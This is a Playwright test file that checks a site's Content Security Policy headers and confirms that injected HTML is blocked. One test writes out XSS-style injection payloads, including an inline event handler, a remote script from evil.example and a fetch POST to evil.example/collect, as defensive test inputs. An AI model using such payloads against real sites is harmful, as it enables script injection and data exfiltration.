import { SITE_PATHS } from '#shared/site-paths.gen.ts'
import { expect, REDUCED_MOTION, test } from '#tests/setup/e2e/fixtures.ts'
import { mockOtherHosts } from './mock-other-hosts.ts'

test.use(REDUCED_MOTION)
test.beforeEach(({ context }) => mockOtherHosts(context))

test('every page is sent with a policy that allows its one inline script and no other, and no style attributes', async ({
  page,
}) => {
  for (const path of SITE_PATHS) {
    const response = await page.request.get(path, { headers: { accept: 'text/html' } })
    const policy = response.headers()['content-security-policy']
    expect(policy).toMatch(/^default-src 'none'; script-src 'self' 'sha256-[\w+/]{43}='/)
    expect(policy).toContain("style-src-attr 'none'")
    expect(policy).not.toMatch(/unsafe|script-src[^;]*(data:|blob:|nonce-)/)
    const inline = await page.evaluate(
      (html) => {
        const parsed = new DOMParser().parseFromString(html, 'text/html')
        const attributes = [...parsed.querySelectorAll('*')].flatMap((element) => element.getAttributeNames())
        return {
          attributes: attributes.filter((name) => name === 'style' || name.startsWith('on')),
          scripts: parsed.querySelectorAll('script:not([src], [type])').length,
        }
      },
      await response.text(),
    )
    expect(inline).toEqual({ attributes: [], scripts: 1 })
  }
})

test.describe('HTML that is injected into a page', () => {
  test.use({ expectedViolations: /./, expectedProblems: /Content Security Policy|evil\.example/ })

  test('runs no script, applies no styles and requests no other host', async ({ page, ready }) => {
    await page.goto('/contact')
    await ready()
    const blocked = page.evaluate(
      () =>
        new Promise<string[]>((resolve) => {
          const directives: string[] = []
          addEventListener('securitypolicyviolation', ({ disposition, effectiveDirective }) => {
            if (disposition === 'enforce') directives.push(effectiveDirective)
            if (directives.length === 8) resolve(directives.sort())
          })
        }),
    )
    await page.evaluate(() => {
      document.body.insertAdjacentHTML(
        'beforeend',
        `<p id="injected" style="color: rgb(1, 2, 3)" onclick="Object.assign(window, { injected: 'handler' })">Injected</p>
         <style>#injected { color: rgb(3, 2, 1) }</style>
         <img src="https://evil.example/pixel" alt="">
         <iframe src="https://evil.example/frame" title="Injected"></iframe>`,
      )
      document.getElementById('injected')?.click()
      for (const attributes of [{ text: "injected = 'text'" }, { src: 'https://evil.example/script.js' }])
        document.head.append(Object.assign(document.createElement('script'), attributes))
      fetch('https://evil.example/collect', { method: 'POST' }).catch(() => {})
    })
    expect(await blocked).toEqual([
      'connect-src',
      'frame-src',
      'img-src',
      'script-src-attr',
      'script-src-elem',
      'script-src-elem',
      'style-src-attr',
      'style-src-elem',
    ])
    expect(await page.evaluate(() => Reflect.get(window, 'injected'))).not.toBe('handler')
  })
})
